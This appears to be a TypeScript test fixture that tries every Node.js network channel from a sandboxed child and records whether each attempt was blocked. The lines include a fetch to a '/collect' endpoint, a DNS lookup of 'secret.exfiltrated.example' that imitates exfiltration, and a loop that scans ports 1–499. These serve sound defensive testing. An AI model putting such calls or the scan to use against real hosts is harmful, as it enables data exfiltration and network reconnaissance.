import dgram from 'node:dgram';
import dns from 'node:dns/promises';
import net from 'node:net';
import tls from 'node:tls';
import { answerCalls } from '../../src/base/children/answer-calls.ts';

// A child in which a library tries to reach the world, in every way that Node has. It says what came of each.

/** What the reaching worker is told, asked and answers. */
export interface ReachingKind {
  readonly order: null;
  readonly facts: null;
  readonly call: 'everything' | 'for ever' | 'nothing';
  readonly event: never;
  readonly reply: never;
  /** What each attempt ended with: `reached`, or the code of the error. */
  readonly value: Record<string, string>;
}

const attempts: Record<string, () => Promise<unknown>> = {
  connect: () => untilConnected(net.connect(443, '93.184.215.14')),
  'connect to a name': () => untilConnected(net.connect({ host: 'name.example', port: 8443 })),
  tls: () => untilConnected(tls.connect({ host: '93.184.215.15', port: 443 })),
  fetch: () => fetch('http://93.184.215.16/collect'),
  socket: () => untilConnected(net.connect({ path: '/nowhere/socket' })),
  datagram: () =>
    new Promise<void>((resolve, reject) => {
      const socket = dgram.createSocket('udp4', undefined);
      socket.on('error', reject);
      socket.send(Buffer.from('x'), 53, '93.184.215.17', (error) => (error ? reject(error) : resolve()));
    }),
  'look-up': () => dns.lookup('secret.exfiltrated.example'),
};

function untilConnected(socket: net.Socket): Promise<void> {
  return new Promise((resolve, reject) => {
    socket.setTimeout(3000, () => socket.destroy(Object.assign(new Error(), { code: 'TIMEOUT' })));
    socket.once('connect', () => resolve(void socket.destroy()));
    socket.once('error', reject);
  });
}

answerCalls<ReachingKind>({
  prepare: () => null,
  async answer(call) {
    if (call === 'nothing') return {};
    if (call === 'for ever') {
      for (let port = 1; port < 500; port += 1)
        await untilConnected(net.connect(port, '93.184.215.18')).catch(() => null);
      return {};
    }
    const outcomes: Record<string, string> = {};
    for (const [name, attempt] of Object.entries(attempts))
      outcomes[name] = await attempt().then(
        () => 'reached',
        (error: NodeJS.ErrnoException) =>
          error.code ?? (error.cause as NodeJS.ErrnoException | undefined)?.code ?? error.name,
      );
    return outcomes;
  },
});
